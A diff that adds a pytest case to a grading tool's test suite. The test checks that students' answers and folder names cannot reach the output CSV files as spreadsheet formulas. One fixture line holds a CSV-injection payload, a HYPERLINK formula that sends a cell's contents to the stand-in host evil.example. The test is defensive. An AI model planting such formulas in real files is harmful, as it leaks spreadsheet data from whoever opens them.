@@ -238,3 +238,38 @@ def test_a_deeply_nested_pack_in_the_packs_folder_does_not_take_down_list(quizap
     out = capsys.readouterr().out
     assert "resnet-residual-block" in out, out[-2000:]
     assert code in (0, 1)
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="grade-batch writes a student's text (an explain answer in marks.csv, the folder name in "
+    "grades.csv and verdicts.csv) into CSV cells as is: a cell starting with = + - @ is a formula when the "
+    "instructor opens marks.csv in a spreadsheet to fill in the marks (CSV injection: HYPERLINK or "
+    "WEBSERVICE sending the sheet's cells away); such cells should be neutralised (a leading ') or quoted",
+)
+def test_a_students_text_reaches_no_spreadsheet_as_a_formula(tmp_path: Path) -> None:
+    submissions = tmp_path / "submissions"
+    (submissions / "eve").mkdir(parents=True)
+    (submissions / "eve" / "why-no-grad.txt").write_text(
+        '=HYPERLINK("https://evil.example/?leak="&A1,"see my answer")\n', encoding="utf-8"
+    )
+    (submissions / "=1+1").mkdir()
+    (submissions / "=1+1" / "total.txt").write_text("a\n", encoding="utf-8")
+    out = tmp_path / "grades"
+    main(["grade-batch", str(PACKS / "table-columns.yaml"), str(submissions), "-o", str(out)])
+    for table in ("marks.csv", "grades.csv", "verdicts.csv"):
+        with (out / table).open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        formulas = [c for c in cells if c.startswith(_FORMULA_START) and not _is_number(c)]
+        assert not formulas, f"{table}: {formulas}"
